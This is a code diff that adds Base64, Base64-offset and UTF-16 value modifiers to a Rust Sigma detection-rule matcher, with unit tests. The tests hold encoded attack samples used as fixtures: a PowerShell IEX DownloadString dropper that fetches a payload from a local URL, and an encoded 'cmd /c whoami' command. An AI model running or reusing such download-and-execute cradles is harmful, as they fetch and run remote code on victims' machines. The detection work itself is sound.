@@ -1,6 +1,7 @@
 //! How one Sigma value is compared with one field value: the value's
 //! wildcards and the field's modifiers (`contains`, `startswith`,
-//! `endswith`, `re`, `cidr`, `exists`, `windash`, `cased`, `gt`...) turned
+//! `endswith`, `re`, `cidr`, `exists`, `windash`, `cased`, `gt`, `base64`,
+//! `base64offset`, `utf16le`...) turned
 //! into a matcher once, when the rule is loaded.
 
 use std::net::IpAddr;
@@ -106,8 +107,37 @@ pub struct Modifiers {
     windash: bool,
     cased: bool,
     compare: Option<Compare>,
+    /// How the value is encoded before it is compared (`base64`,
+    /// `base64offset`).
+    encoding: Option<Encoding>,
+    /// The text form encoded (`utf16le`, `wide`...); UTF-8 when none.
+    utf16: Option<Utf16>,
     /// Every value must match (`all`), not any.
     pub all: bool,
+}
+
+/// A value encoded as a command line or script carries it (`powershell
+/// -enc ...`).
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Encoding {
+    /// The value's Base64 form.
+    Base64,
+    /// The value's three Base64 forms as part of a longer encoded text,
+    /// one per offset modulo 3 (the characters its neighbours change cut
+    /// off).
+    Base64Offset,
+}
+
+/// UTF-16 forms of a value before it is encoded.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Utf16 {
+    /// Little-endian (`utf16le`, `wide`: what Windows and PowerShell's
+    /// `-EncodedCommand` use).
+    Le,
+    /// Big-endian (`utf16be`).
+    Be,
+    /// Little-endian after a byte-order mark (`utf16`).
+    Bom,
 }
 
 impl Modifiers {
@@ -131,15 +161,26 @@ impl Modifiers {
                 "gte" => m.compare = Some(Compare::GreaterOrEqual),
                 "lt" => m.compare = Some(Compare::Less),
                 "lte" => m.compare = Some(Compare::LessOrEqual),
+                "base64" => m.encoding = Some(Encoding::Base64),
+                "base64offset" => m.encoding = Some(Encoding::Base64Offset),
+                "utf16le" | "wide" => m.utf16 = Some(Utf16::Le),
+                "utf16be" => m.utf16 = Some(Utf16::Be),
+                "utf16" => m.utf16 = Some(Utf16::Bom),
                 other => return Err(Unsupported::Modifier(other.to_string())),
             }
+        }
+        // Fields are read as text: a UTF-16 form means something only
+        // encoded as Base64.
+        if m.utf16.is_some() && m.encoding.is_none() {
+            return Err(Unsupported::Modifier("utf16 without base64 or base64offset".to_string()));
         }
         Ok(m)
     }
 
-    /// Whether values must be compared with their case.
+    /// Whether values must be compared with their case (Base64's letters
+    /// are its data).
     pub fn cased(self) -> bool {
-        self.cased || self.regex
+        self.cased || self.regex || self.encoding.is_some()
     }
 
     /// The patterns one rule value stands for (`windash` gives several).
@@ -170,7 +211,26 @@ impl Modifiers {
             return Ok(vec![Pattern::Cidr(ip, bits)]);
         }
         let variants = if self.windash { windash(&text) } else { vec![text] };
-        variants.into_iter().map(|v| self.wildcard(&v)).collect()
+        match self.encoding {
+            None => variants.into_iter().map(|v| self.wildcard(&v)).collect(),
+            Some(encoding) => {
+                let mut out = Vec::new();
+                for v in variants {
+                    // Wildcards cannot be encoded: an encoded `*` is no
+                    // longer one.
+                    let literal = unescape(&v).ok_or_else(|| Unsupported::Value(v.clone()))?;
+                    let bytes =
+                        self.utf16.map_or_else(|| literal.clone().into_bytes(), |u| u.bytes(&literal));
+                    for form in encoding.forms(&bytes) {
+                        out.push(self.wildcard(&form)?);
+                    }
+                }
+                if out.is_empty() {
+                    return Err(Unsupported::Value(String::new()));
+                }
+                Ok(out)
+            }
+        }
     }
 
     /// A plain value with Sigma's wildcards (`*`, `?`, `\` escapes) under
@@ -238,6 +298,57 @@ impl Modifiers {
         let run = if self.cased() { run } else { run.map(|r| r.to_lowercase()) };
         Ok(Pattern::Wildcard(regex, run.map(Needle::new).into_iter().collect()))
     }
+}
+
+impl Utf16 {
+    fn bytes(self, text: &str) -> Vec<u8> {
+        let units = text.encode_utf16();
+        match self {
+            Utf16::Le => units.flat_map(u16::to_le_bytes).collect(),
+            Utf16::Be => units.flat_map(u16::to_be_bytes).collect(),
+            Utf16::Bom => [0xFF, 0xFE].into_iter().chain(units.flat_map(u16::to_le_bytes)).collect(),
+        }
+    }
+}
+
+impl Encoding {
+    /// The texts an encoded value is looked for as (none of them empty).
+    fn forms(self, bytes: &[u8]) -> Vec<String> {
+        match self {
+            Encoding::Base64 => vec![base64(bytes)],
+            Encoding::Base64Offset => (0..3)
+                .map(|shift| {
+                    // The value after `shift` bytes of anything: the first
+                    // characters hold those bytes too, the last ones the
+                    // bytes after it.
+                    let mut shifted = vec![b' '; shift];
+                    shifted.extend_from_slice(bytes);
+                    let text = base64(&shifted);
+                    let start = [0, 2, 3][shift];
+                    let cut = [0, 3, 2][(bytes.len() + shift) % 3];
+                    text.get(start..text.len().saturating_sub(cut)).unwrap_or_default().to_string()
+                })
+                .filter(|form| !form.is_empty())
+                .collect(),
+        }
+    }
+}
+
+/// Standard Base64 with padding (RFC 4648).
+fn base64(bytes: &[u8]) -> String {
+    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = String::with_capacity(bytes.len().div_ceil(3) * 4);
+    for group in bytes.chunks(3) {
+        let n = group.iter().enumerate().fold(0u32, |n, (i, &b)| n | u32::from(b) << (16 - 8 * i));
+        for i in 0..4 {
+            if i <= group.len() {
+                out.push(char::from(ALPHABET[(n >> (18 - 6 * i)) as usize & 63]));
+            } else {
+                out.push('=');
+            }
+        }
+    }
+    out
 }
 
 /// `\*`, `\?` and `\\` unescaped; `None` when an unescaped wildcard is left.
@@ -463,6 +574,48 @@ mod tests {
         assert!(runs.iter().all(|r| r.space_after()), "{runs:?}");
     }
 
+    /// The texts each pattern looks for.
+    fn needles(p: &[Pattern]) -> Vec<String> {
+        p.iter()
+            .map(|p| match p {
+                Pattern::Contains(n) => String::from_utf8_lossy(n.text()).into_owned(),
+                Pattern::Equals(t) => t.clone(),
+                other => panic!("{other:?}"),
+            })
+            .collect()
+    }
+
+    /// Base64 forms as PowerShell's `-EncodedCommand` and droppers carry a
+    /// value; the expected texts were made by another Base64 encoder.
+    #[test]
+    fn encoded_values() {
+        assert_eq!(needles(&compile(&["base64"], "whoami")), ["d2hvYW1p"]);
+        assert_eq!(needles(&compile(&["wide", "base64"], "whoami")), ["dwBoAG8AYQBtAGkA"]);
+        assert_eq!(needles(&compile(&["utf16le", "base64"], "whoami")), ["dwBoAG8AYQBtAGkA"]);
+        assert_eq!(needles(&compile(&["utf16be", "base64"], "whoami")), ["AHcAaABvAGEAbQBp"]);
+        assert_eq!(needles(&compile(&["utf16", "base64"], "whoami")), ["//53AGgAbwBhAG0AaQA="]);
+        let offsets = compile(&["base64offset", "contains"], "http://");
+        assert_eq!(needles(&offsets), ["aHR0cDovL", "h0dHA6Ly", "odHRwOi8v"]);
+        // At offset 0 of a request, and deep inside a dropper's command.
+        assert!(any(&offsets, "R0VUIC94P3E9aHR0cDovL2V2aWw="), "GET /x?q=http://evil");
+        let dropper = "eHhJRVggKE5ldy1PYmplY3QgTmV0LldlYmNsaWVudCkuRG93bmxvYWRTdHJpbmcoJ2h0dHA6Ly8xMjcuMC4wLjE6ODA4MC9hJyk=";
+        assert!(any(&offsets, dropper));
+        assert!(!any(&offsets, &dropper.to_lowercase()), "Base64's letters are its data: cased");
+        let wide = compile(&["utf16le", "base64offset", "contains"], "whoami");
+        assert_eq!(needles(&wide), ["dwBoAG8AYQBtAGkA", "cAaABvAGEAbQBpA", "3AGgAbwBhAG0AaQ"]);
+        assert!(any(&wide, "powershell -enc YwBtAGQAIAAvAGMAIAB3AGgAbwBhAG0AaQA="), "cmd /c whoami");
+        assert!(!any(&wide, "powershell -enc YwBtAGQAIAAvAGMAIABkAGkAcgA="), "cmd /c dir");
+        // A one-byte value has no middle at one offset: that form is dropped.
+        assert_eq!(needles(&compile(&["base64offset", "contains"], "a")), ["Y", "h"]);
+        let mods = Modifiers::parse(["base64offset", "contains"].into_iter()).expect("mods");
+        assert!(
+            matches!(mods.compile(&SigmaValue::Text("http*".into())), Err(Unsupported::Value(_))),
+            "a wildcard cannot be encoded"
+        );
+        let escaped = compile(&["base64"], "a\\*b");
+        assert_eq!(needles(&escaped), ["YSpi"], "an escaped `*` is a character");
+    }
+
     #[test]
     fn regex_cidr_numbers_and_presence() {
         assert!(any(&compile(&["re"], "^/[a-z]+\\.aspx$"), "/shell.aspx"));
@@ -470,8 +623,8 @@ mod tests {
         assert!(!any(&compile(&["cidr"], "10.0.0.0/8"), "11.1.2.3"));
         assert!(any(&compile(&["gte"], "400"), "401"));
         assert!(
-            Modifiers::parse(["base64offset"].into_iter()).is_err(),
-            "not supported: the rule is skipped"
+            Modifiers::parse(["utf16le", "contains"].into_iter()).is_err(),
+            "values are read as text: a UTF-16 form alone is never in one"
         );
         let exists = Modifiers::parse(["exists"].into_iter()).expect("mods");
         assert!(exists.compile(&SigmaValue::Bool(false)).expect("compiles")[0].matches_missing());
